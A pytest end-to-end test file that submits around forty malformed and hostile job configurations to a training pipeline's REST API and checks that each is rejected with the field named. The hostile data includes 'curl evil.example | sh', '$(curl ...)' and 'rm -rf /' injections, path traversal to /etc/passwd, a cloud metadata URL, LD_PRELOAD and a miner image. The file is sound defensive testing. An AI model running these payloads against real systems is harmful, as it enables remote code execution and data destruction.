"""Malformed and hostile confs through the REST API: each ends as HTTP 400 or a failed ``validate``
naming the field, and nothing is reserved, copied or provisioned."""

from __future__ import annotations

import os

import pytest

from sailor_tasks.cli.airflow_api import AirflowAPIError
from sailor_tasks.ledger import Ledger
from tests.e2e.conftest import RUN_TIMEOUT_S, TINY

pytestmark = pytest.mark.e2e

HOSTILE: dict[str, tuple[dict, str]] = {
    # wrong types
    "workers-as-text": ({"num_workers": "two"}, "num_workers"),
    "workers-as-bool": ({"num_workers": True}, "num_workers"),
    "steps-as-float": ({"total_steps": 1.5}, "total_steps"),
    "price-as-text": ({"max_usd_per_hour": "cheap"}, "max_usd_per_hour"),
    "regions-as-string": ({"regions": "us-central1"}, "regions"),
    "job-name-null": ({"job_name": None}, "job_name"),
    "seed-as-object": ({"seed": {"$gt": 0}}, "seed"),
    # out-of-range numbers
    "zero-workers": ({"num_workers": 0}, "num_workers"),
    "too-many-workers": ({"num_workers": 10**9}, "num_workers"),
    "negative-steps": ({"total_steps": -5}, "total_steps"),
    "negative-price": ({"max_usd_per_hour": -1}, "max_usd_per_hour"),
    "zero-learning-rate": ({"learning_rate": 0}, "learning_rate"),
    "huge-batch": ({"batch_size": 10**12}, "batch_size"),
    "negative-seed": ({"seed": -1}, "seed"),
    "zero-checkpoint-interval": ({"checkpoint_every_steps": 0}, "checkpoint_every_steps"),
    "checkpoint-after-end": ({"checkpoint_every_steps": 500, "total_steps": 40}, "checkpoint_every_steps"),
    "price-below-cheapest-offer": ({"max_usd_per_hour": 0.0001}, "max_usd_per_hour"),
    # unknown regions / GPU types / enums
    "unknown-region": ({"regions": ["mars-north1"]}, "regions"),
    "no-regions": ({"regions": []}, "regions"),
    "duplicate-regions": ({"regions": ["us-central1", "us-central1"]}, "regions"),
    "unknown-gpu": ({"gpu_type": "TPU-v9"}, "gpu_type"),
    "unknown-model": ({"model": "gpt-5"}, "model"),
    "unknown-market": ({"market": "black_market"}, "market"),
    # dataset URIs: traversal, other schemes, paths outside the data folders
    "traversal-sailor": ({"dataset_uri": "sailor://source/../../etc"}, "dataset_uri"),
    "traversal-gs": ({"dataset_uri": "gs://other-bucket/data/../../secrets"}, "dataset_uri"),
    "file-outside-data-folders": ({"dataset_uri": "file:///etc"}, "dataset_uri"),
    "file-relative": ({"dataset_uri": "file://etc/passwd"}, "dataset_uri"),
    "scheme-http-metadata": ({"dataset_uri": "http://169.254.169.254/computeMetadata/v1"}, "dataset_uri"),
    "scheme-s3": ({"dataset_uri": "s3://bucket/data"}, "dataset_uri"),
    "unknown-bucket": ({"dataset_uri": "sailor://attacker/datasets/x"}, "dataset_uri"),
    "missing-dataset": ({"dataset_uri": "sailor://source/datasets/does-not-exist"}, "dataset_uri"),
    "uri-with-shell": ({"dataset_uri": "sailor://source/x;rm -rf /"}, "dataset_uri"),
    # injection attempts: image, command, env, shell in names
    "image-override": ({"image": "attacker/miner:latest"}, "image"),
    "command-override": ({"command": ["sh", "-c", "curl evil.example | sh"]}, "command"),
    "env-injection": ({"env": {"LD_PRELOAD": "/tmp/evil.so"}}, "env"),
    "backend-shell": ({"backend": "local; rm -rf /"}, "backend"),
    "job-name-shell": ({"job_name": "x$(curl evil.example)"}, "job_name"),
    "team-traversal": ({"team": "../../etc"}, "team"),
    "job-name-newline": ({"job_name": "ok\n--privileged"}, "job_name"),
    # huge strings
    "huge-job-name": ({"job_name": "a" * 100_000}, "job_name"),
    "huge-dataset-uri": ({"dataset_uri": "sailor://source/" + "a" * 5000}, "dataset_uri"),
    "huge-unknown-value": ({"notes": "A" * 200_000}, "notes"),
}


def _bucket_tree(state_dir: str) -> set[str]:
    out = set()
    for base, _dirs, files in os.walk(os.path.join(state_dir, "buckets")):
        out.update(os.path.join(base, f) for f in files)
    return out


@pytest.fixture(scope="module")
def outcomes(stack, client):
    """Submit every conf at once; return name → ("http", status, detail) or ("run", run_id, state)."""
    before = _bucket_tree(str(stack.state_dir))
    submitted: dict[str, tuple] = {}
    for name, (conf, _field) in HOSTILE.items():
        try:
            run = client.trigger("sailor_train", {**TINY, **conf})
        except AirflowAPIError as exc:
            submitted[name] = ("http", exc.status, str(exc.detail))
        else:
            submitted[name] = ("run", run["dag_run_id"], None)
    results = {}
    for name, (kind, ref, detail) in submitted.items():
        if kind == "run":
            results[name] = ("run", ref, client.wait("sailor_train", ref, timeout_s=RUN_TIMEOUT_S))
        else:
            results[name] = (kind, ref, detail)
    return {"results": results, "bucket_files_before": before}


def test_at_least_30_hostile_confs():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_conf_is_rejected_naming_the_field(stack, client, outcomes, name):
    _conf, field = HOSTILE[name]
    kind, ref, detail = outcomes["results"][name]
    if kind == "http":
        assert ref == 400, detail
        assert field in detail, detail
        return
    run_id, state = ref, detail
    tasks = {ti["task_id"]: ti["state"] for ti in client.task_instances("sailor_train", run_id)}
    assert state == "failed" and tasks["validate"] == "failed", tasks
    assert all(
        tasks[t] in ("upstream_failed", None, "skipped") for t in ("plan", "place_data", "provision", "train")
    ), tasks
    log = client.task_log("sailor_train", run_id, "validate")
    assert f"{field}=" in log, log[-3000:]
    ledger = Ledger(stack.settings().ledger_url)
    run = ledger.get_run(run_id)
    assert run["status"] == "rejected" and field in run["error"]
    assert len(run["error"]) < 4100  # huge values are cut, never stored whole
    assert ledger.placements(run_id) == []


def test_nothing_reserved_copied_or_provisioned(stack, outcomes):
    ledger = Ledger(stack.settings().ledger_url)
    rejected = [ref for kind, ref, _ in outcomes["results"].values() if kind == "run"]
    assert rejected, "some confs pass the schema and must be stopped by validate"
    assert all(ledger.placements(run_id) == [] for run_id in rejected)
    assert [r for r in ledger.live_reservations() if r.run_id in rejected] == []
    assert _bucket_tree(str(stack.state_dir)) == outcomes["bucket_files_before"]  # nothing copied
    clusters = stack.settings().clusters_dir
    records = os.listdir(clusters) if os.path.isdir(clusters) else []
    assert records == []  # nothing provisioned (earlier runs were torn down)
